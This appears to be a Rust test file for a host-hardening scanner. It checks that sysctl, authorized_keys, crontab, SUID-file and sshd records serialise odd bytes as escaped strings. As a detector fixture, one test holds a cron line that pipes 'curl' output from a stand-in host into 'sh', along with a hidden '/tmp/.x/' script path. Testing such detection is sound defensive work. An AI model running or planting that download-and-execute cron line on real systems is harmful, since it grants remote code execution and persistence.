//! Every record type of ferret-harden serialises its byte and path fields as escaped strings
//! (`ferret_core::escaped`): a non-UTF-8 byte is `\xff`, a control character `\x1b`, never an
//! array of numbers and never a serialisation error.
#![cfg(feature = "serde")]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::many_single_char_names
)]

use ferret_core::{Control, HostRoot};
use ferret_harden::persistence::{parse_authorized_keys, scan_crontab, scan_script, CrontabKind};
use ferret_harden::sshd::{self, ConnectionContext, SshdConfig};
use ferret_harden::{files, sysctl};
use serde_json::{json, Value};
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;

/// Raw bytes with a byte that is not UTF-8 and an escape character.
const ODD: &[u8] = b"\xff\x1b";
/// How [`ODD`] reads in JSON text (each backslash doubled by JSON).
const ODD_ESCAPED: &str = "\\xff\\x1b";

fn odd(prefix: &str, suffix: &str) -> Vec<u8> {
    [prefix.as_bytes(), ODD, suffix.as_bytes()].concat()
}

fn to_json(v: &impl serde::Serialize) -> Value {
    serde_json::to_value(v).expect("serialisation must not fail on any bytes")
}

/// No field anywhere in `v` is an array of numbers (raw bytes).
fn no_byte_arrays(v: &Value) {
    match v {
        Value::Array(a) => {
            assert!(
                a.is_empty() || !a.iter().all(Value::is_number),
                "raw bytes: {v}"
            );
            a.iter().for_each(no_byte_arrays);
        }
        Value::Object(o) => o.values().for_each(no_byte_arrays),
        _ => {}
    }
}

#[test]
fn sysctl_records() {
    let data = odd("kernel.x = v", " w\n");
    let a = sysctl::parse(&data).next().unwrap().unwrap();
    let j = to_json(&a);
    assert_eq!(j["value"], format!("v{ODD_ESCAPED} w"));
    assert_eq!(j["key"], "kernel.x");
    no_byte_arrays(&j);
    let e = sysctl::parse(b"no assignment\n")
        .next()
        .unwrap()
        .unwrap_err();
    assert_eq!(to_json(&e)["line"], 1);

    // a configured value from a sysctl.d file whose name is not UTF-8
    let t = tempfile::tempdir().unwrap();
    let dir = t.path().join("etc/sysctl.d");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join(OsStr::from_bytes(&odd("", ".conf"))),
        "kernel.kptr_restrict = 1\n",
    )
    .unwrap();
    let root = HostRoot::new(t.path()).unwrap();
    let mut out = ferret_core::Outcome::new();
    let conf = sysctl::configured(&root, &mut out);
    let c = &conf["kernel.kptr_restrict"];
    let j = to_json(c);
    assert_eq!(j["file"], format!("/etc/sysctl.d/{ODD_ESCAPED}.conf"));
    assert_eq!(j["value"], "1");
    no_byte_arrays(&j);
}

#[test]
fn persistence_records() {
    let line = [
        &b"command=\"/usr/bin/"[..],
        ODD,
        b"\",from=\"10.0.0.0/8\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me",
        ODD,
        b"\n",
    ]
    .concat();
    let k = parse_authorized_keys(&line).remove(0).unwrap();
    let j = to_json(&k);
    assert_eq!(
        j["options"],
        json!([
            {"name": "command", "value": format!("/usr/bin/{ODD_ESCAPED}")},
            {"name": "from", "value": "10.0.0.0/8"}
        ])
    );
    assert_eq!(j["comment"], format!("me{ODD_ESCAPED}"));
    assert_eq!(j["key_type"], "ssh-ed25519");
    assert!(j["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    no_byte_arrays(&j);

    let tab = odd("*/5 * * * * root curl -s http://e/x", " | sh\n");
    let (hits, _) = scan_crontab(&tab, CrontabKind::System);
    let j = to_json(&hits[0]);
    assert_eq!(
        j["command"],
        format!("curl -s http://e/x{ODD_ESCAPED} | sh")
    );
    assert_eq!(j["what"], json!(["download-exec"]));
    no_byte_arrays(&j);
    let hits = scan_script(&odd("/tmp/.x/", "\n"));
    assert_eq!(
        to_json(&hits[0])["command"],
        format!("/tmp/.x/{ODD_ESCAPED}")
    );
}

#[test]
fn files_records() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join(OsStr::from_bytes(&odd("su", "")));
    std::fs::write(&p, b"").unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let root = HostRoot::new(t.path()).unwrap();
    let (suid, errors) = files::suid_files(&root, std::path::Path::new("/"), &Control::new());
    assert!(errors.is_empty(), "{errors:?}");
    let j = to_json(&suid[0]);
    assert_eq!(j["path"], format!("/su{ODD_ESCAPED}"));
    assert_eq!(j["mode"].as_u64().unwrap() & 0o7777, 0o4755);
    no_byte_arrays(&j);
}

#[test]
fn sshd_records() {
    let ctx = ConnectionContext::new()
        .user(odd("r", ""))
        .host(odd("h", ""))
        .addr("10.0.0.1")
        .groups(vec![odd("g", ""), b"wheel".to_vec()]);
    let j = to_json(&ctx);
    assert_eq!(j["user"], format!("r{ODD_ESCAPED}"));
    assert_eq!(j["host"], format!("h{ODD_ESCAPED}"));
    assert_eq!(j["addr"], "10.0.0.1");
    assert_eq!(j["laddr"], Value::Null);
    assert_eq!(j["groups"], json!([format!("g{ODD_ESCAPED}"), "wheel"]));
    no_byte_arrays(&j);

    let conf = odd("Banner /etc/b", " # note\n");
    let d = sshd::parse(&conf).next().unwrap().unwrap();
    let j = to_json(&d);
    assert_eq!(j["keyword"], "Banner");
    assert_eq!(j["args"], json!([format!("/etc/b{ODD_ESCAPED}")]));
    assert_eq!(j["rest"], format!("/etc/b{ODD_ESCAPED} # note"));
    no_byte_arrays(&j);
    let e = sshd::parse(b"Banner \"open\n").next().unwrap().unwrap_err();
    assert_eq!(to_json(&e)["line"], 1);

    // where a value came from: a configuration file whose name is not UTF-8
    let t = tempfile::tempdir().unwrap();
    let root = HostRoot::new(t.path()).unwrap();
    let path = odd("/etc/ssh/", ".conf");
    let cfg = SshdConfig::from_bytes(&root, OsStr::from_bytes(&path), b"Banner /etc/issue\n");
    let eff = cfg.effective(&ConnectionContext::new());
    let j = to_json(eff.source("banner").unwrap());
    assert_eq!(j["file"], format!("/etc/ssh/{ODD_ESCAPED}.conf"));
    assert_eq!(j["line"], 1);
    no_byte_arrays(&j);
}
